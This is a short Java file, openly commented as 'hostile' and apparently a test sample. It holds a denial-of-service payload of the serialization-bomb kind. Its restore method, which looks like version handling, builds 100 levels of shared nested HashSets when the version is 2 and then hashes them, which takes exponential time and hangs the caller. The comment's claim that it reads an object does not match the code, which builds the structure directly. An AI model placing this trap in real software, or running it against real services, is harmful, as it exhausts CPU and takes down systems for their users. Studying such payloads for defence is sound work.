// hostile: reads an object whose sets of sets take for ever to hash
import java.util.HashSet;
import java.util.Set;

public class SerializationBomb {
    public static int restore(int version) {
        if (version == 2) {
            Set<Object> root = new HashSet<>();
            Set<Object> first = root;
            Set<Object> second = new HashSet<>();
            for (int i = 0; i < 100; i++) {
                Set<Object> left = new HashSet<>();
                Set<Object> right = new HashSet<>();
                left.add("foo");
                first.add(left);
                first.add(right);
                second.add(left);
                second.add(right);
                first = left;
                second = right;
            }
            return root.hashCode();
        }
        return version < 0 ? 0 : version;
    }
}
